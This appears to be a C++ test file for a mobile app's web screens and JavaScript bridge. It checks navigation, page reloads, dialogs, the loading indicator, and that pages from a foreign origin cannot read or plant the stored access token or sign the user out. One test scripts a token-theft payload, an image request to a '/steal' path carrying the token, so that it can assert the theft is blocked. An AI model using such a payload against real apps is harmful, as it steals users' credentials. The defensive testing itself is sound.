// The web screens and their bridge, driven from the sample pages of the stand-in back end.
#include "app/screens/tests/WebScreenFixture.h"
#include "app/tools/SaveService.h"
#include "platform/foundation/Console.h"
#include "platform/foundation/NotificationCenter.h"
#include "platform/uikit/UIActionSheet.h"
#include "platform/uikit/UIAlertView.h"
#include "platform/webkit/UIWebView.h"
#include "refresh/PRRefreshHeader.h"
#include "testsupport/LoopbackServer.h"

namespace {

[[maybe_unused]] const auto* const kSandbox = ::testing::AddGlobalTestEnvironment(new AppSandbox());

using WebScreens = WebScreenTest;

TEST_F(WebScreens, BridgeCallsFromThePageOpenScreensOnTheMainQueue) {
    // The script, then "main" or the top screen's title, whether it is a web screen ("bare" without a bar)
    // and its page of the back end; whether the user is signed out.
    const std::pair<const char*, const char*> cases[] = {
        {"openDetail()", "Detail web detail.html"},
        {"openDetailBare()", " web bare detail.html"},
        {"openSettings()", "SettingViewController"},
        {"openSignIn()", "LoginViewController signed out"},
        {"signOut()", "LoginViewController signed out"},
        {"openNothing(); app.push('', 'quorvane://open?mode'); app.push('', 'quorvane://open?mode=9');"
         "app.push('Files', 'ftp://example.com/')",
         "main"},
        // Only an address a screen can load is pushed.
        {"app.pushWithUrl(''); app.pushWithUrl(null); app.pushWithUrl('ftp://example.com/');"
         "app.pushWithUrl('http://'); app.pushWithUrl('detail.html')",
         "main"},
        // "sarnquil://" addresses are never loaded; "login" signs out.
        {"location.href = 'sarnquil://elsewhere'", "main"},
        {"location.href = 'sarnquil://login'", "LoginViewController signed out"},
    };
    showMainScreen();
    auto main = top();
    for (const auto& [script, expected] : cases) {
        SCOPED_TRACE(script);
        SaveService::setObject(Value("token-1"), kSaveServiceAccessTokenKey);
        top()->webView()->stringByEvaluatingJavaScriptFromString(script);
        EXPECT_EQ(navigation_->viewControllers().size(), 1u);  // not before the main queue turns
        // A navigation reaches the screen once the page's timer has run.
        until([&] { return !strstr(script, "sarnquil") || strstr(script, main->urlStr().c_str()); });
        settle();
        auto shown = navigation_->topViewController();
        auto web = std::dynamic_pointer_cast<UrlMainViewController>(shown);
        std::string seen = shown == main ? "main" : shown->title();
        if (web)
            seen += " web " + std::string(web->isHideNav() ? "bare " : "") +
                    web->urlString().substr(pageURL("").size());
        if (storedString(kSaveServiceAccessTokenKey) == "") seen += " signed out";
        EXPECT_EQ(seen, expected);
        EXPECT_EQ(bool(shown->navigationItem()->leftBarButtonItem()), shown != main);  // the back button
        EXPECT_EQ(navigation_->isNavigationBarHidden(), !web || web->isHideNav());
        EXPECT_TRUE(!web || web->delegate() == std::static_pointer_cast<AppBaseDelegate>(main));
        navigation_->popToRootViewControllerAnimated(Animated::No);
        settle();
        EXPECT_EQ(main->webView()->documentURL(), pageURL("#/"));
    }
}

// A page reloads when asked (refresh, a pull, going back after setIsRefresh) and only then.
TEST_F(WebScreens, PagesReloadOnlyWhenAsked) {
    // `depth` screens are opened above the main one, then the script runs and the finger pulls the page down
    // or taps the back button; last, the page reloaded, if any.
    enum Finger { None, Pull, Back };
    const std::tuple<int, const char*, Finger, const char*> cases[] = {
        {0, "reloadPage()", None, "/vqd_web/"},
        {0, "", Pull, "/vqd_web/"},
        {0, "stopPull()", Pull, nullptr},
        {1, "back()", None, nullptr},
        {1, "backAndRefresh()", None, "/vqd_web/"},
        {1, "app.setIsRefresh(true)", Back, "/vqd_web/"},
        {2, "homeAndRefresh()", None, "/vqd_web/detail.html"},
    };
    showMainScreen();
    auto main = top();
    for (const auto& [depth, script, finger, reloaded] : cases) {
        SCOPED_TRACE(std::string(script) + " " + std::to_string(finger));
        std::vector<BaseViewControllerPtr> opened;  // kept, so that a reload asked of a popped screen runs
        for (const char* open : {"openDetail()", "deeper()"}) {
            if (int(opened.size()) == depth) break;
            auto opener = top();
            run(open);
            ASSERT_TRUE(until([&] { return top() != opener; }));  // the push may come a turn later
            settle();
            ASSERT_TRUE(waitForPage(top()));
            EXPECT_EQ(top()->delegate(), std::static_pointer_cast<AppBaseDelegate>(opener));
            opened.push_back(top());
        }
        const auto hits = [&, reloaded = reloaded] {  // of the page, or of all pages
            return reloaded ? server_->hits(reloaded)
                            : server_->hits("/vqd_web/") + server_->hits("/vqd_web/detail.html");
        };
        const size_t before = hits();
        if (*script) run(script);
        if (finger == Pull) top()->webView()->scrollView()->drag({0, 120}, 4);
        if (finger == Back) top()->navigationItem()->leftBarButtonItem()->sendAction();
        settle();
        EXPECT_EQ(navigation_->viewControllers().size(), 1u);
        // A reload would reach the server within a second.
        EXPECT_EQ(until([&] { return hits() > before; }, reloaded ? kPageWait : 1), reloaded != nullptr);
        ASSERT_TRUE(waitForPage(main));
        EXPECT_EQ(pr_header(main->webView()->scrollView())->state(), PRRefreshState::Idle);
    }
}

// The token and the stored values serve the back end's own pages only: a page of another origin reads
// nothing, writes nothing, cannot sign the user out and cannot have a dialog's answer run in the back end's
// page it navigates to.
TEST_F(WebScreens, StoredValuesAndTheTokenServeOnlyTheBackEndsOwnPages) {
    auto other = startDevServer();  // another origin: the same pages on another port
    // Whether the script runs in the page of the other origin, the script, its result.
    const std::tuple<bool, const char*, const char*> cases[] = {
        {false, "String(app.getAccessToken())", "null"},
        {false,
         "app.setWebCash('greeting', 'hello'); app.setWebCash('a.b', '1'); app.getWebCash('greeting') + "
         "app.getWebCash('a.b')",
         "hello1"},
        {false, "app.setWebCash('AccessToken', 'tok')", ""},
        {false, "String(app.getAccessToken())", "tok"},
        {true, "String(app.getAccessToken())", "null"},
        {true, "app.setWebCash('AccessToken', 'evil'); app.getWebCash('AccessToken')", ""},
        {true, "app.setWebCash('planted', 'x'); app.toLogin()", ""},
        {true, "location.href = 'sarnquil://login'", "sarnquil://login"},
    };
    showMainScreen();
    auto main = top();
    run("app.pushWithUrl('" + other->url("/vqd_web/storage.html") + "')");
    ASSERT_TRUE(until([&] { return top() != main; }));
    settle();
    auto foreign = top();
    ASSERT_TRUE(foreign != main && waitForPage(foreign));
    for (const auto& [isForeign, script, result] : cases) {
        EXPECT_EQ((isForeign ? foreign : main)->webView()->stringByEvaluatingJavaScriptFromString(script),
                  result);
        settle();
    }
    ASSERT_TRUE(until([&] { return foreign->urlStr() == "sarnquil://login"; }));
    settle();
    using Stored = std::optional<std::string>;
    EXPECT_EQ(
        std::tuple(storedString("a.b"), storedString("planted"), storedString(kSaveServiceAccessTokenKey)),
        std::tuple(Stored("1"), Stored(), Stored("tok")));
    EXPECT_EQ(navigation_->viewControllers().size(), 2u);

    // The foreign page's dialog is answered once its screen shows the back end's page: the answer is dropped.
    Console::Capture capture;
    run("app.alert('Win', '', 'No', 'Yes', \"new Image().src = '" + other->url("/steal") +
        "?t=' + app.getAccessToken()\"); location.href = '" + pageURL("storage.html") + "'");
    ASSERT_TRUE(until([&] { return foreign->webView()->documentURL() == pageURL("storage.html"); }));
    ASSERT_TRUE(until([&] { return !foreign->webView()->isLoading(); }));
    ASSERT_TRUE(UIDialogs::press(1));
    settle();
    EXPECT_EQ(run("String(app.getAccessToken())"), "tok");
    EXPECT_TRUE(capture.contains("dropped"));
    // A theft would reach the foreign server within a second or two: no request to it arrives at all.
    EXPECT_FALSE(until([&] { return other->hits("/steal") > 0; }, 3));
}

// Only the back end's own page in the main frame signs the user out by the link scheme: not a foreign
// server's redirect after a back-end page sent the view there, not a foreign frame inside a back-end page.
TEST_F(WebScreens, AForeignRedirectOrFrameCannotSignTheUserOut) {
    LoopbackServer foreign;  // "localhost": another origin than the back end's 127.0.0.1
    foreign.reply("/redir", LoopbackReply::redirect(302, "sarnquil://login"));
    LoopbackReply frame =
        LoopbackReply::text("<script>setTimeout(() => { location.href = 'sarnquil://login'; }, 0)</script>");
    frame.contentType = "text/html";
    foreign.reply("/frame", frame);
    const std::string scripts[] = {
        "document.body.append(Object.assign(document.createElement('iframe'), {src: '" +
            foreign.url("localhost", "/frame") + "'}))",
        "location.href = '" + foreign.url("localhost", "/redir") + "'",
    };
    for (const auto& script : scripts) {
        SCOPED_TRACE(script);
        SaveService::setObject(Value("tok"), kSaveServiceAccessTokenKey);
        showMainScreen();
        auto main = top();
        run(script);
        ASSERT_TRUE(until([&] { return main->urlStr() == "sarnquil://login"; }))
            << main->urlStr() << " " << foreign.totalHits();
        settle();
        EXPECT_EQ(storedString(kSaveServiceAccessTokenKey), "tok");
        EXPECT_EQ(navigation_->viewControllers().size(), 1u);
    }
}

// Signed in, launched while the back end is down: once it is back, a pull loads the start page.
TEST_F(WebScreens, AMainPageThatFailedToLoadLoadsTheStartPageOnAPull) {
    int port = 0;
    {
        LoopbackServer gone;
        port = gone.port();
    }
    AppConfig::setBaseURL("http://127.0.0.1:" + std::to_string(port));
    // The failed load's start and end can come in one pass of the main loop, so the HUD's count of one
    // may never be seen between passes: wait for the failure itself, then for the HUD to be clear.
    bool failed = false;
    auto token = NSNotificationCenter::defaultCenter().addObserver(
        UIWebViewLoadDidEndNotification, nullptr, nullptr,
        [&](const NSNotification& note) { failed |= note.userInfo.count(UIWebViewLoadErrorKey) > 0; });
    navigation_ = std::dynamic_pointer_cast<BaseNavViewController>(AppScreens::makeMainNavigation());
    show(navigation_);
    auto main = top();
    auto hud = THProgressHUD::shareInstancetype();
    const bool failedAndClear = until([&] { return failed && hud->loadingCount() == 0; });
    NSNotificationCenter::defaultCenter().removeObserver(token);
    ASSERT_TRUE(failedAndClear);
    DevServer back(DevServer::Config{QUORVANE_DEVSERVER_PAGES, [](const std::string&) {}});
    ASSERT_TRUE(back.start("127.0.0.1", port));
    main->webView()->scrollView()->drag({0, 120}, 4);
    settle();
    ASSERT_TRUE(waitForPage(main));
    EXPECT_EQ(main->webView()->documentURL(), AppConfig::startPageURL());
}

TEST_F(WebScreens, ADialogClickRunsTheLatestCallbackInThePage) {
    // The script, the dialog as "title: buttons", the presses in turn to the dialog then showing, and
    // lastDialog + " " + lastChoice afterwards.
    const std::tuple<const char*, const char*, const char*, const char*> cases[] = {
        {"askAlert()", "Delete draft: Cancel|Delete", "1", "alert 1"},
        {"askSheet()", "Share: Remove|Copy link|Cancel", "2", "sheet 2"},
        {"askQuietly()", "Notice: Close|OK", "1", " null"},
        {"app.alert('A', '', 'No', 'Yes', 'choose(\"first\", %@)');"
         "app.alert('A', '', 'No', 'Yes', 'choose(\"second\", %@)')",
         "A: No|Yes", "10", "second 0"},
        {"app.alert('T', 'm', null, 'Yes', 'choose(\"nocancel\", %@)')", "T: Yes", "0", "nocancel 0"},
        {"app.alert('T', 'm', null, null, 'choose(\"bare\", %@)')", "T: 确定", "0", "bare 0"},
        {"app.actionSheet('S', null, null, null, 'choose(\"bare sheet\", %@)')", "S: 确定", "0",
         "bare sheet 0"},
        {"tip()", "提示: 确定", "0", " null"},
        // The clicked index goes in for "%@"; the page's text is never read as a format.
        {"app.alert('F', '', null, 'Go', 'choose(\"%%@ %d %s %n %1$@\", %@)')", "F: Go", "0",
         "%@ %d %s %n %1$@ 0"},
    };
    showMainScreen();
    auto main = top();
    run("openDialogs()");
    ASSERT_TRUE(until([&] { return top() != main; }));
    settle();
    ASSERT_TRUE(waitForPage(top()));
    for (const auto& [ask, dialog, presses, answer] : cases) {
        SCOPED_TRACE(ask);
        run("lastDialog = ''; lastChoice = null;");
        run(ask);
        for (const char* press = presses; *press; ++press) {
            ASSERT_TRUE(until([] { return UIDialogs::visible() != nullptr; }));
            std::string shown = UIDialogs::visible()->dialogTitle() + ":";
            for (auto& title : UIDialogs::buttonTitles()) shown += (shown.back() == ':' ? " " : "|") + title;
            EXPECT_EQ(shown, dialog);
            ASSERT_TRUE(UIDialogs::press(*press - '0'));
            settle();
        }
        EXPECT_FALSE(UIDialogs::visible());
        EXPECT_EQ(run("lastDialog + ' ' + lastChoice"), answer);
    }
}

// The HUD's loading count goes back whether a page's load fails or its screen is let go mid-load.
TEST_F(WebScreens, APageLoadThatFailsOrIsLeftTakesItsLoadOffTheHUD) {
    LoopbackServer stalled;
    LoopbackReply never = LoopbackReply::text("");
    never.delay = 60;
    stalled.reply("/never", never);
    std::string refused;
    {
        LoopbackServer gone;
        refused = gone.url("/page");
    }
    auto hud = THProgressHUD::shareInstancetype();
    std::vector<std::shared_ptr<UrlMainViewController>> screens;
    for (auto& url : {refused, stalled.url("/never"), stalled.url("/never"), refused}) {
        screens.push_back(UrlMainViewController::create());
        screens.back()->setUrlString(url);
        screens.back()->loadViewIfNeeded();
    }
    // The refused loads fail while their screens stay; the stalled ones are left by closing their screens.
    ASSERT_TRUE(until([&] { return hud->loadingCount() == 2 && !screens[0]->webView()->isLoading(); }));
    EXPECT_TRUE(until([&] { return !screens[3]->webView()->isLoading(); }));
    EXPECT_EQ(hud->loadingCount(), 2);
    for (int left : {1, 0, 0}) {
        screens.erase(screens.begin() + 1);
        EXPECT_EQ(hud->loadingCount(), left);
    }
    EXPECT_EQ(hud->state(), THProgressHUDState::Idle);
}

}  // namespace
